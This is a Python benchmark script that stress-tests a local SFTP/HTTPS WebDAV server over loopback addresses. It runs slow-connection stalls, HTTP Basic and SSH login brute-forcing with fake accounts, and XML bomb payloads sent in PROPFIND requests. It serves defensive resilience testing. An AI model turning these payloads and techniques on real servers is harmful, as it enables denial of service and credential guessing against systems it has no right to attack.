"""The attackers of benches/attack: says "ready" once the attack is in full swing, and how much it did when told to stop."""

import asyncio
import base64
import json
import ssl
import sys

SLOW = 5000
# What comes before the silence, door by door; a TLS record is announced with 512 bytes (RFC 8446 section 5.1).
HALVES = [("sftp", b""), ("https", b""), ("sftp", b"SSH-2.0-slow"), ("https", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03")]
BOMBS = [
    b"<a>" * 2000 + b"</a>" * 2000,
    b"<!DOCTYPE a [<!ENTITY b 'bbbbbbbb'><!ENTITY c '&b;&b;&b;&b;'>]><a>&c;</a>",
    b"<a" + b"".join(b" xmlns:n%d='u%d'" % (n, n) for n in range(2800)) + b"/>",
]
done = 0


def address(n):
    """One of the addresses that loopback has many of."""
    return (f"127.2.{n >> 8}.{n & 255}", 0)


async def dial(target, door, n, context=None):
    return await asyncio.open_connection("127.0.0.1", target[door], local_addr=address(n), ssl=context)


async def slow(target, n):
    """Keeps one connection that gets nowhere; one that is closed is opened again."""
    global done
    door, half = HALVES[n % 4]
    while True:
        try:
            reader, writer = await dial(target, door, n % 100)
            writer.write(half)
            done += 1
            while await reader.read(4096):
                pass
            writer.close()
        except OSError:
            pass
        await asyncio.sleep(1)


async def ask(reader, writer, head, body=b""):
    writer.write(head + body)
    answer = await reader.readuntil(b"\r\n\r\n")
    length = next((line.split(b":")[1] for line in answer.lower().split(b"\r\n") if line.startswith(b"content-length")), b"0")
    await reader.readexactly(int(length))
    return int(answer.split()[1])


def head(target, line, login, headers=""):
    basic = base64.b64encode(login.encode()).decode()
    return f"{line} HTTP/1.1\r\nHost: 127.0.0.1:{target['https']}\r\nAuthorization: Basic {basic}\r\n{headers}\r\n".encode()


def context(target):
    return ssl.create_default_context(cafile=target["ca"])


async def guess(target, n):
    """Guesses over HTTPS; who is told to wait comes from the next address."""
    global done
    trust = context(target)
    for round in range(1 << 30):
        try:
            reader, writer = await dial(target, "https", 1000 + n + 64 * (round % 900), trust)
            for password in range(10):
                line = head(target, "GET /dav/", f"nobody.{n}.{round}@example.com:{password}")
                done += 1
                if await ask(reader, writer, line) != 401:
                    break
            writer.close()
        except (OSError, asyncio.IncompleteReadError):
            await asyncio.sleep(0.1)


async def guess_ssh(target, n):
    """A connection of OpenSSH's client after the other, each with a login that nobody has."""
    global done
    options = ["-F", "none", "-p", str(target["sftp"]), "-b", address(500 + n)[0], "-oBatchMode=yes"]
    options += ["-oStrictHostKeyChecking=no", "-oUserKnownHostsFile=/dev/null", "-i", target["key"]]
    while True:
        process = await asyncio.create_subprocess_exec(
            "ssh", *options, "nobody@127.0.0.1", stdin=asyncio.subprocess.DEVNULL, stdout=asyncio.subprocess.DEVNULL,
            stderr=asyncio.subprocess.DEVNULL,
        )
        try:
            await process.wait()
        finally:
            if process.returncode is None:
                process.kill()
        done += 1


async def bomb(target, n):
    global done
    trust = context(target)
    while True:
        try:
            reader, writer = await dial(target, "https", 200, trust)
            while True:
                body = BOMBS[done % 3]
                headers = f"Depth: 0\r\nContent-Length: {len(body)}\r\n"
                line = head(target, f"PROPFIND {target['path']}", f"{target['user']}:{target['password']}", headers)
                await ask(reader, writer, line, body)
                done += 1
        except (OSError, asyncio.IncompleteReadError):
            await asyncio.sleep(0.1)


def attackers(name, target):
    match name:
        case "slow":
            return [slow(target, n) for n in range(SLOW)], SLOW
        case "logins":
            return [guess(target, n) for n in range(64)] + [guess_ssh(target, n) for n in range(8)], 100
        case "xml":
            return [bomb(target, n) for n in range(16)], 100


async def main(name, target):
    works, swing = attackers(name, target)
    tasks = [asyncio.create_task(work) for work in works]
    while done < swing:
        await asyncio.sleep(0.05)
    print("ready", flush=True)
    await asyncio.to_thread(sys.stdin.readline)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(done, flush=True)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], json.loads(sys.argv[2])))
